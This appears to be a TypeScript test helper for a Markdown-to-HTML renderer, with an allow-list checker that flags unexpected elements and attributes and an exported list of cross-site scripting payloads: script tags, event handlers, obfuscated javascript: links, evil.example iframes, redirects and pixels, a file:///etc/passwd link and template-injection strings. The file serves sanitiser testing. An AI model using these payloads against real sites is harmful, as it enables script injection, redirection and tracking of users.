/** Reads a public page as a browser would, and tells what on it could run, load, send or lead where it must not. */

const elements = new Set([
  ...['html', 'head', 'meta', 'title', 'style', 'body', 'main', 'p', 'article', 'div', 'hr', 'br'],
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'em', 'strong', 's'],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td', 'a'],
]);
const attributes: Readonly<Record<string, RegExp>> = {
  class: /^(wide|card|brand|about|lead|lead next|foot|wide-table|whole|left|center|right|language-[^"<>]*)$/,
  href: /^(https?:\/\/|mailto:)/i,
  rel: /^noopener noreferrer nofollow$/,
  title: /^[^"<>]*$/,
  start: /^\d+$/,
  lang: /^en$/,
  charset: /^utf-8$/,
  name: /^(viewport|robots)$/,
  content: /^(width=device-width, initial-scale=1|noindex)$/,
};
const tag =
  /<(?:!--[\s\S]*?(?:-->|$)|!doctype html>|\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>?|[/!?][^>]*>?)/gi;
const attribute = /([^\s=/"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]*)))?/g;

/** Empty for a page that only shows text. */
export function dangersIn(page: string): string[] {
  // What is Patchbay's own: its mark and its style, once each.
  const text = page
    .replace(/<svg viewBox="0 0 32 32" aria-hidden="true">[\s\S]*?<\/svg>/, '')
    .replace(/<style>[^<]*<\/style>/, '');
  const dangers: string[] = [];
  for (const [whole, name = '', given = ''] of text.matchAll(tag)) {
    if (/^<!doctype html>$/i.test(whole)) continue;
    if (!elements.has(name.toLowerCase()) || name.toLowerCase() === 'style')
      dangers.push(whole.slice(0, 120));
    else dangers.push(...wrongAttributes(whole, given));
  }
  const metas = text.match(/<meta\b/gi)?.length ?? 0;
  if (metas !== 3) dangers.push(`${metas} meta elements`);
  return dangers;
}

function wrongAttributes(whole: string, given: string): string[] {
  return [...given.matchAll(attribute)]
    .filter(([, name = '', double, single, bare]) => {
      const value = double ?? single ?? bare ?? '';
      return attributes[name.toLowerCase()]?.test(decoded(value)) !== true;
    })
    .map(() => whole.slice(0, 120));
}

/** Character references, as far as an address could be hidden in them. */
function decoded(value: string): string {
  return value
    .replaceAll(/&#x([0-9a-f]+);?/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replaceAll(/&#(\d+);?/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll('&amp;', '&');
}

/** What would do something in a page that took it for markup. Each calls `alert` or asks `evil.example`, where it works. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg/onload=alert(3)>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/b.css"; main { display: none }</style>',
  '<form action="https://evil.example/form"><input name="x" autofocus onfocus=alert(4)></form>',
  '<object data="data:text/html,<script>alert(5)</script>"></object><embed src="//evil.example/e">',
  '</title></style></article></main><script>alert(6)</script>',
  '<!--><script>alert(7)</script>-->',
  '<a href="javascript:alert(8)" style="position:fixed;inset:0">everywhere</a>',
  '![pixel](https://evil.example/pixel.png)',
  '![pixel][p]\n\n[p]: https://evil.example/pixel.png',
  '![](data:image/svg+xml,%3Csvg%20onload=alert(9)%3E)',
  '[a](javascript:alert(10))',
  '[b](JaVaScRiPt:alert(11))',
  '[c](java\tscript:alert(12))',
  '[d](&#106;avascript:alert(13))',
  '[e](&#x6a;&#x61;vascript&colon;alert(14))',
  '[f](data:text/html,<script>alert(15)</script>)',
  '[g](vbscript:msgbox(16))',
  '[h](<javascript:alert(17)>)',
  '[i][j]\n\n[j]: javascript:alert(18)',
  '[k](file:///etc/passwd)',
  '[l](//evil.example/)',
  '[m](/oauth/authorize)',
  '[n](https://evil.example/" onmouseover="alert(19))',
  '[o](https://evil.example/ "title\\" onclick=\\"alert(20)")',
  '<javascript:alert(21)>',
  '<https://evil.example/?"onmouseover="alert(22)>',
  '```"><img/src=x/onerror=alert(23)>\ncode\n```',
  '~~~ " onmouseover="alert(24)\ncode\n~~~',
  '    <script>alert(25)</script>',
  '`<script>alert(26)</script>`',
  '| <img src=x onerror=alert(27)> | b |\n| :-- | --: |\n| <script>alert(28)</script> | [x](javascript:alert(29)) |',
  '\u202e<script>alert(30)</script>\u0000<scr\u0000ipt>alert(31)</scr\u0000ipt>',
  '&lt;script&gt;alert(32)&lt;/script&gt; &#60;script&#62;alert(33)&#60;/script&#62;',
  '<<script>alert(34)//<</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(35)>',
  '{{constructor.constructor("alert(36)")()}} ${alert(37)} <%= alert(38) %>',
];
